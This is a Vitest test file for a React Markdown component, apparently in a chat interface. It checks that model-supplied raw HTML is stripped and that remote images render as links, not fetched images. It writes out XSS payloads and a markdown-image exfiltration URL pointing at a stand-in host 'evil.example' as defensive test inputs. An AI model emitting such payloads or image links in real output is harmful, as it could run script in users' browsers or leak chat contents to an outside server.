import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import { mayLoadImage } from './MarkdownImage';

describe('Markdown', () => {
  it('renders markdown with highlighted code and a copy button', () => {
    const html = renderToStaticMarkup(
      <Markdown text={'# Title\n\nSome **bold** text.\n\n```js\nconst x = "y";\n```\n'} />,
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('hljs-keyword');
    expect(html).toContain('aria-label="Copy code"');
  });

  it('does not render raw HTML from the model', () => {
    const html = renderToStaticMarkup(<Markdown text={'<script>alert(1)</script><img src=x onerror=alert(1)>'} />);
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
  });
});

describe('Markdown images', () => {
  it('turns a remote image into a link with its alt text: the browser fetches nothing', () => {
    const html = renderToStaticMarkup(
      <Markdown text={'Here: ![the chart](https://evil.example/leak?q=secret%20chat%20text "Chart")'} />,
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/leak?q=secret%20chat%20text"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('the chart');
    expect(html).toContain('evil.example');
  });

  it('also links protocol-relative remote images instead of loading them', () => {
    const html = renderToStaticMarkup(<Markdown text={'![x](//evil.example/a.png)'} />);
    expect(html).not.toContain('<img');
  });

  it('loads same-origin and raster data images', () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgo=';
    const html = renderToStaticMarkup(<Markdown text={`![local](/v1/image/abc) ![pixel](${pixel})`} />);
    expect(html).toContain('<img src="/v1/image/abc" alt="local"');
    expect(html).toContain(`<img src="${pixel}" alt="pixel"`);
  });
});

describe('mayLoadImage', () => {
  it('allows this origin and raster data URLs only', () => {
    const origin = 'https://switchyard.example';
    expect(mayLoadImage('/files/a.png', origin)).toBe(true);
    expect(mayLoadImage('https://switchyard.example/files/a.png', origin)).toBe(true);
    expect(mayLoadImage('data:image/png;base64,AAAA', origin)).toBe(true);
    expect(mayLoadImage('https://evil.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('//evil.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('http://switchyard.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('data:image/svg+xml,<svg/>', origin)).toBe(false);
  });
});
